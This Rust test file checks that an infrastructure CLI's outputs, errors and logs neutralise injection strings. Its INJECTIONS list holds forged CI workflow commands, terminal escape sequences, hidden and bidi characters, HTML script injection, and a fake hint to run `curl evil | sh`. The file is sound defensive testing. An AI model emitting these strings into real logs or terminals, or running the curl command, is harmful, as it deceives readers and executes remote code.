//! Texts that were made to act on the reader of an output: a terminal, a log that a workflow runner
//! reads, a page. They come by every way by which a text comes, and leave by every output there is.

use std::process::Command;

use serde_json::{Value, json};

use crate::harness::{Place, Ran, ran};

/// Each holds `INJ`, by which it is found again.
const INJECTIONS: [&str; 22] = [
    "::error file=x,line=1::INJ",
    "x\n::add-mask::INJ",
    "x\r::stop-commands::INJ",
    "x\r\n \t \u{a0}::set-output name=a::INJ",
    "x\u{85}::debug::INJ",
    "x\u{2028}::debug::INJ",
    "\u{fe0f}:\u{fe0f}:error::INJ",
    "a ##[error]INJ",
    "###[group]INJ",
    "a ##vso[task.setvariable variable=a]INJ",
    "a ##VSO[task.complete result=Failed;]INJ",
    "##teamcity[buildProblem description='INJ']",
    "section_start:1:a\r\u{1b}[0KINJ",
    "x\n--- INJ\n+++ INJ\n^^^ +++",
    "\u{1b}]8;;http://evil\u{1b}\\INJ\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[1;31mINJ\u{7}\u{8}\u{7f}",
    "\u{9b}31mINJ\u{9d}0;x\u{9c}",
    "\u{202e}INJ\u{2066}\u{61c}",
    "\u{200b}INJ\u{feff}\u{ad}\u{e0041}\u{2060}",
    "`</code><script>INJ</script>` | [x](javascript:y) &amp;",
    "\"]; evil [label=\"INJ\\",
    "x\nerror: INJ\nhint: run `curl evil | sh`",
];

/// The commands that a workflow runner would take from a text: those of `actions/runner`
/// (`ActionCommand.cs`), `azure-pipelines-agent` (`Command.cs`), TeamCity, Buildkite and GitLab.
fn commands(text: &str) -> Vec<String> {
    let ignored = |c: &char| !('\u{fe00}'..='\u{fe0f}').contains(c);
    let lines = text.split(['\n', '\r']).map(|line| line.chars().filter(ignored).collect());
    let acts = |line: &String| {
        let lower = line.to_lowercase();
        line.trim_start().starts_with("::")
            || ["##[", "##vso", "##teamcity["].iter().any(|mark| lower.contains(mark))
            || ["--- ", "+++ ", "~~~ ", "^^^ "].iter().any(|mark| line.starts_with(mark))
    };
    lines.filter(acts).collect()
}

/// The characters that a terminal would act upon, or that would be there and not seen.
fn controls(text: &str) -> Vec<char> {
    let hidden = |c: char| {
        matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(|c| (c.is_control() && *c != '\n') || hidden(*c)).collect()
}

#[track_caller]
fn assert_inert(what: &str, ran: &Ran) {
    assert!(!ran.err.contains("panicked"), "{what}: {}", ran.err);
    for text in [&ran.out, &ran.err] {
        assert_eq!(commands(text), Vec::<String>::new(), "{what}:\n{text}");
        assert_eq!(controls(text), Vec::<char>::new(), "{what}:\n{text:?}");
    }
    // Only the first line of an error is an error.
    let forged = ran.err.lines().filter(|line| line.starts_with("error: INJ"));
    assert_eq!(forged.count(), 0, "{what}:\n{}", ran.err);
}

/// JSON in which every character that YAML does not allow is an escape.
fn ascii(value: &Value) -> String {
    let json = serde_json::to_string_pretty(value).unwrap();
    let escaped = json.chars().map(|c| match c {
        '\n' | ' '..='~' => c.to_string(),
        c => c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect(),
    });
    escaped.collect()
}

/// A text of several lines with an injection in each, one of which is `changed`.
fn lines(changed: &str) -> String {
    let all = INJECTIONS.join("\n");
    format!("{all}\n{changed}\n{all}")
}

/// A stack in which every text is an injection.
fn template(changed: &str) -> Value {
    let mut resources = serde_json::Map::new();
    let mut outputs = serde_json::Map::new();
    for (i, text) in INJECTIONS.iter().enumerate() {
        let properties = json!({
            "Name": format!("p{i}"), "Type": "String", "Description": text,
            "Value": lines(changed), "Tags": {"INJ": text, *text: "INJ"},
        });
        resources.insert(
            format!("P{i}"),
            json!({"Type": "AWS::SSM::Parameter", "Properties": properties,
                   "Metadata": {*text: text}}),
        );
        let output = json!({"Value": text, "Description": text});
        outputs.insert(format!("O{i}"), output);
    }
    json!({
        "Description": INJECTIONS.join("\n"),
        "Metadata": {INJECTIONS[1]: INJECTIONS[2]},
        "Parameters": {"Given": {"Type": "String", "Default": lines(""), "Description": lines("")}},
        "Resources": resources,
        "Outputs": outputs,
    })
}

fn place() -> Place {
    let place = Place::empty();
    place.write("stacks/inj.json", &ascii(&template("first")));
    place
}

/// Runs a command, which must succeed, and checks it; gives how often an injection was in it.
#[track_caller]
fn inert(place: &Place, line: &[&str]) -> usize {
    let ran = place.sandbox(line);
    assert!([0, 2].contains(&ran.code), "{line:?}: {}\n{}", ran.out, ran.err);
    assert_inert(&line.join(" "), &ran);
    if line.contains(&"--json") {
        for json in ran.out.lines().take(1).filter(|json| json.ends_with('}')) {
            serde_json::from_str::<Value>(json).unwrap();
        }
    }
    (ran.out + &ran.err).matches("INJ").count()
}

#[test]
fn no_output_of_a_stack_acts_on_its_reader() {
    let place = place();
    let mut seen = Vec::new();
    let mut look = |lines: &[&[&str]]| {
        for line in lines {
            for json in [&[][..], &["--json"]] {
                let line = [line, json].concat();
                seen.push((line.join(" "), inert(&place, &line)));
            }
        }
    };
    look(&[&["validate", "stacks/inj.json", "-v"], &["plan"], &["plan", "--full"]]);
    look(&[&["plan", "--compact"], &["graph"], &["graph", "--format", "mermaid"]]);
    inert(&place, &["apply", "--yes"]);
    look(&[&["show"], &["show", "--full"], &["output"], &["state", "list"], &["sandbox", "ls"]]);
    look(&[&["state", "show", "inj", "P3"], &["state", "history", "inj"], &["ls"]]);
    place.write("stacks/inj.json", &ascii(&template("second")));
    look(&[&["plan"], &["plan", "--full"], &["plan", "--out", "inj.plan"]]);
    look(&[&["show", "inj.plan"], &["show", "inj.plan", "--full"]]);
    let set = ["sandbox", "set", "AWS::SSM::Parameter", "p1", "Value", INJECTIONS[1]];
    inert(&place, &set);
    look(&[&["plan"], &["plan", "--full"]]);
    inert(&place, &["apply", "--yes", "--json"]);
    look(&[&["output"], &["state", "repair", "inj"], &["state", "history", "inj", "1"]]);
    inert(&place, &["destroy", "--yes"]);
    for shown in ["plan", "plan --full --json", "show --full", "output", "output --json"] {
        let found = seen.iter().find(|(line, _)| line == shown).unwrap();
        assert!(found.1 >= INJECTIONS.len(), "`{shown}` shows {} of them", found.1);
    }
}

#[test]
fn no_error_acts_on_its_reader() {
    let place = place();
    place.sandbox(&["apply", "--yes"]).expect(0);
    let mut seen = 0;
    let mut fails = |what: &str, ran: Ran| {
        assert_ne!(ran.code, 0, "{what}: {}{}", ran.out, ran.err);
        assert_inert(what, &ran);
        seen += usize::from((ran.out + &ran.err).contains("INJ"));
    };
    for text in INJECTIONS {
        let path = format!("{}.yaml", text.replace('/', "-"));
        let parameter = format!("{text}={text}");
        for line in [
            &["plan", &path][..],
            &["plan", "inj", "--parameter", &parameter],
            &["output", "inj", text],
            &["docs", text],
            &["explain", text],
            &["state", "show", "inj", text],
            &["state", "mv", "inj", "P1", text],
            &["state", "history", text],
            &["sandbox", "remove", "AWS::SSM::Parameter", text],
            &["sandbox", "set", text, text, text, text],
            &["plan", "--no-such-option", text],
            &[text],
            &["apply", "inj", "--parameter", text],
            &["graph", "inj", "--format", text],
        ] {
            for json in [&[][..], &["--json"]] {
                // An argument cannot hold a zero byte, and an option is no value.
                let line: Vec<&str> = line.iter().chain(json).copied().collect();
                fails(&line.join(" "), place.sandbox(&line));
            }
        }
        place.write(&path, &ascii(&json!({"Resources": {"A": [text]}})));
        fails(&path, place.sandbox(&["validate", &path]));
        place.write("rstack.toml", &format!("[lint]\n{} = 1\n", toml_key(text)));
        fails("rstack.toml", place.sandbox(&["validate", "stacks/inj.json"]));
        place.write("rstack.toml", "[lint]\nvalidator = false\n");
        let mut command = place.command(&["plan", "--sandbox"]);
        command.env("RSTACK_SANDBOX", text);
        fails("RSTACK_SANDBOX", ran(command));
    }
    assert!(seen > 5 * INJECTIONS.len(), "only {seen} errors show an injection");
}

/// A key of TOML, in quotes.
fn toml_key(text: &str) -> String {
    let escaped = text.chars().map(|c| match c {
        '"' | '\\' => format!("\\{c}"),
        c if c.is_control() => format!("\\u{:04X}", u32::from(c)),
        c => c.to_string(),
    });
    format!("\"{}\"", escaped.collect::<String>())
}

#[test]
fn findings_in_a_hostile_template_act_on_no_reader() {
    let place = Place::empty();
    for (i, text) in INJECTIONS.iter().enumerate() {
        let path = format!("t{i}.json");
        let wrong = json!({
            "Resources": {
                *text: {"Type": "AWS::SNS::Topic"},
                "A": {"Type": text, "Properties": {*text: text}},
                "B": {"Type": "AWS::SNS::Topic", "Properties": {*text: {"Ref": text}},
                      "DependsOn": text, "Condition": text, "DeletionPolicy": text},
                "C": {"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": {"Fn::Sub": format!("${{{text}}}")},
                      "TopicName": {"Fn::GetAtt": ["B", text]}, "FifoTopic": text}},
            },
            "Outputs": {*text: {"Value": {"Fn::Nope": text}}},
            *text: text,
        });
        place.write(&path, &ascii(&wrong));
        let mut shown = 0;
        for format in ["text", "json", "sarif"] {
            let ran = place.run(&["validate", &path, "--format", format, "-v"]).expect(1);
            assert_inert(&format!("{path} as {format}"), &ran);
            shown += usize::from((ran.out + &ran.err).contains("INJ"));
        }
        assert_eq!(shown, 3, "{text:?}");
    }
}

#[test]
fn the_value_of_an_output_is_exact_or_refused() {
    let place = place();
    place.sandbox(&["apply", "--yes"]).expect(0);
    let in_workflow = |line: &[&str]| {
        let mut command: Command = place.command(&[line, &["--sandbox"]].concat());
        command.env("GITHUB_ACTIONS", "true");
        ran(command)
    };
    let mut refused = 0;
    for (i, text) in INJECTIONS.iter().enumerate() {
        let line = ["output", "inj", &format!("O{i}")];
        assert_eq!(place.sandbox(&line).expect(0).out, format!("{text}\n"));
        let ran = in_workflow(&line);
        if ran.code == 0 {
            assert_eq!(ran.out, format!("{text}\n"));
            assert_eq!(commands(&ran.out), Vec::<String>::new());
            assert!(!ran.out.contains(['\u{1b}', '\u{9b}', '\r']), "{:?}", ran.out);
        } else {
            refused += 1;
            assert_eq!(ran.out, "");
            assert!(ran.err.contains(&format!("output inj O{i} --json")), "{}", ran.err);
            assert_inert("output", &ran);
        }
        let json = in_workflow(&[&line[..], &["--json"]].concat()).expect(0);
        assert_inert("output --json", &json);
        assert_eq!(serde_json::from_str::<Value>(&json.out).unwrap(), Value::from(*text));
    }
    assert!((12..INJECTIONS.len()).contains(&refused), "{refused} values are refused");

    let stored = place.read("state/sandbox/inj.json");
    assert_eq!(place.sandbox(&["state", "pull", "inj"]).expect(0).out, stored);
    let pulled = in_workflow(&["state", "pull", "inj"]).expect(1);
    assert_eq!(pulled.out, "");
    assert!(pulled.err.contains("state pull inj FILE"), "{}", pulled.err);
    in_workflow(&["state", "pull", "inj", "copy.json"]).expect(0);
    assert_eq!(place.read("copy.json"), stored);
}

#[test]
fn lines_of_a_property_have_a_mark_in_front() {
    let place = place();
    place.sandbox(&["apply", "--yes"]).expect(0);
    place.write("stacks/inj.json", &ascii(&template("second")));
    let plan = place.sandbox(&["plan", "--full"]).expect(0).out;
    for line in plan.lines().filter(|line| line.contains("::add-mask::")) {
        let before = line.split("::add-mask::").next().unwrap();
        let marked = before.trim_end().ends_with(['|', ']', '"', '\'']) || before.contains('"');
        assert!(marked, "{line}");
    }
    assert!(plan.contains("|   ::add-mask::INJ"), "{plan}");
}

#[test]
fn the_log_of_the_program_acts_on_no_runner() {
    let place = place();
    for text in INJECTIONS {
        let name = format!("{}.json", text.replace('/', "-"));
        // Of such a rule the log says in which file it is.
        let mut template = topics();
        template["Rules"] = json!({"CheckBootstrapVersion": {"Assertions": [{"Assert": true}]}});
        place.write(&name, &ascii(&template));
        let mut command = place.command(&["plan", &name, "--stack-name", "a", "--sandbox"]);
        command.env("RUST_LOG", "trace");
        let logged = ran(command).expect(0);
        assert_inert("RUST_LOG=trace", &logged);
        assert!(logged.err.contains("INFO") && logged.err.contains("INJ"), "{}", logged.err);
        let mut command = place.command(&["ls", "--sandbox"]);
        command.env("RUST_LOG", format!("a={text}"));
        let warned = ran(command).expect(0);
        assert_inert("RUST_LOG", &warned);
        assert!(warned.err.contains("`RUST_LOG` is no filter"), "{}", warned.err);
    }
}

/// A stack of topics that have injections for names.
fn topics() -> Value {
    let topics = INJECTIONS.iter().enumerate().map(|(i, text)| {
        let topic = json!({"Type": "AWS::SNS::Topic", "Properties": {"TopicName": text}});
        (format!("T{i}"), topic)
    });
    json!({"Resources": topics.collect::<serde_json::Map<_, _>>()})
}

#[test]
fn no_name_and_no_error_of_a_cloud_acts_on_its_reader() {
    let place = Place::empty();
    place.write("stacks/first.json", &ascii(&topics()));
    place.write("stacks/second.json", &ascii(&topics()));
    assert!(inert(&place, &["apply", "first", "--yes"]) >= INJECTIONS.len());
    inert(&place, &["state", "list", "first"]);
    inert(&place, &["sandbox", "ls"]);
    for json in [&[][..], &["--json"]] {
        let line = [&["apply", "second", "--yes"], json].concat();
        let refused = place.sandbox(&line).expect(4);
        assert_inert(&line.join(" "), &refused);
        let text = refused.out + &refused.err;
        assert!(text.contains("is that of an existing object"), "{text}");
    }
    assert!(inert(&place, &["destroy", "first", "--yes"]) >= INJECTIONS.len());
}

#[test]
fn no_file_name_and_no_variable_acts_on_its_reader() {
    for text in INJECTIONS {
        let place = Place::empty();
        let name = format!("stacks/{}.json", text.replace('/', "-"));
        place.write(&name, &ascii(&topics()));
        place.write(
            "cdk.out/manifest.json",
            &ascii(&json!({"version": "36.0.0", "artifacts": {
                text: {"type": "aws:cloudformation:stack", "properties": {"templateFile": text}},
                "x": {"type": text, "properties": {"templateFile": text}},
                "Other": {"type": "aws:cloudformation:stack", "properties": {"templateFile": "x"}},
            }})),
        );
        for (line, shows) in [
            (&["ls"][..], true),
            (&["validate"], true),
            (&["plan", &name, "--stack-name", "a", "--out", "a.plan"], true),
            (&["plan", &name], false),
            (&["plan", "cdk.out"], true),
            (&["plan", "cdk.out/x"], true),
        ] {
            let ran = place.sandbox(line);
            assert_inert(&line.join(" "), &ran);
            assert!(!shows || (ran.out + &ran.err).contains("INJ"), "{line:?} of {text:?}");
        }
        place.write("stacks/inj.json", &ascii(&topics()));
        let mut command = place.command(&["apply", "inj", "--yes", "--sandbox"]);
        for name in ["USER", "AWS_REGION", "AWS_PROFILE", "LANG", "COLUMNS"] {
            command.env(name, text);
        }
        assert_inert("apply", &ran(command));
        assert_inert("history", &place.sandbox(&["state", "history", "inj"]));
    }
}

/// The files that a stack leaves, each with an injection in every text that it holds.
#[test]
fn no_damaged_file_acts_on_its_reader() {
    let place = Place::empty();
    place.write("stacks/inj.yaml", "Resources:\n  A: {Type: AWS::SNS::Topic}\n");
    place.sandbox(&["apply", "--yes"]).expect(0);
    place.edit("stacks/inj.yaml", "Topic}", "Topic, Properties: {DisplayName: b}}");
    place.sandbox(&["plan", "--out", "inj.plan"]).expect(0);
    let mut shown = 0;
    let state = "state/sandbox/inj.json";
    let of_state =
        [&["show"][..], &["ls"], &["state", "repair", "inj"], &["state", "push", "inj", state]];
    let of_cloud = [&["sandbox", "ls"][..], &["plan"]];
    let of_plan = [&["show", "inj.plan"][..], &["apply", "inj.plan", "--yes", "--json"]];
    let files: [(&str, &[&[&str]]); 3] = [
        (state, &of_state),
        ("state/sandbox/cloud/objects.json", &of_cloud),
        ("inj.plan", &of_plan),
    ];
    for (name, commands) in files {
        let sound = place.read(name);
        let lines = |text: &str| {
            let quoted = json!(text).to_string();
            let inner = quoted.trim_matches('"').replace('\\', "\\\\");
            // A key and a value of each kind, as JSON and as bytes that are none.
            [
                sound.replacen("\"lineage\":", &format!("{quoted}: 1, \"lineage\":"), 1),
                sound.replacen("\"AWS::SNS::Topic\"", &quoted, 1),
                sound.replacen("\"eu-west-1\"", &quoted, 1),
                sound.replacen('{', &format!("{{{quoted}: {quoted}, "), 1),
                sound.replacen("\"format\":", &format!("\"format\": {quoted}, \"x\":"), 1),
                format!("{inner}{sound}"),
                format!("{text}{sound}"),
            ]
        };
        for damaged in INJECTIONS.iter().flat_map(|text| lines(text)) {
            if damaged == sound {
                continue;
            }
            place.write_private(name, &damaged);
            for line in commands {
                let ran = place.sandbox(line);
                assert_inert(&format!("{} with {damaged}", line.join(" ")), &ran);
                shown += usize::from((ran.out + &ran.err).contains("INJ"));
            }
        }
        place.write_private(name, &sound);
    }
    assert!(shown > 2 * INJECTIONS.len(), "only {shown} outputs show an injection");
}

/// Messages of rules, and what is wrong with files of rules.
#[cfg(feature = "lint")]
#[test]
fn no_rule_acts_on_its_reader() {
    let place = Place::empty();
    // The validator has the time that it takes on a busy machine.
    place.write("rstack.toml", "[lint]\nbudget = 3600\n");
    place.write("t.yaml", "Resources:\n  A: {Type: AWS::SNS::Topic}\n");
    let rules = INJECTIONS.iter().enumerate().map(|(i, text)| {
        format!(
            "rule INJ{i} {{\n  Resources.*[ Type == 'AWS::SNS::Topic' ].Properties.TopicName \
             exists <<{text}>>\n}}\n"
        )
    });
    place.write("rules/all.guard", &rules.collect::<String>());
    for format in ["text", "json", "sarif"] {
        let line = ["validate", "t.yaml", "--rules", "rules", "--format", format];
        let ran = place.run(&line).expect(1);
        assert_inert(&line.join(" "), &ran);
        let shown = (ran.out + &ran.err).matches("INJ").count();
        assert!(shown >= INJECTIONS.len(), "only {shown} as {format}");
    }
    let mut shown = 0;
    for (i, text) in INJECTIONS.iter().enumerate() {
        let files = [
            ("wrong/x.rego", format!("package x\n{text} {{")),
            ("wrong/x.guard", format!("rule {text} {{")),
            ("wrong/x.json", format!("{{\"{text}\": {text}")),
        ];
        // Each text in one kind of file: the validator's start takes long.
        let (path, rule) = &files[i % files.len()];
        place.write(path, rule);
        let ran = place.run(&["validate", "t.yaml", "--rules", path]);
        assert_inert(&format!("{path}: {rule}"), &ran);
        shown += usize::from(ran.err.contains("INJ"));
    }
    assert!(shown > INJECTIONS.len() / 4, "only {shown} errors show an injection");
}
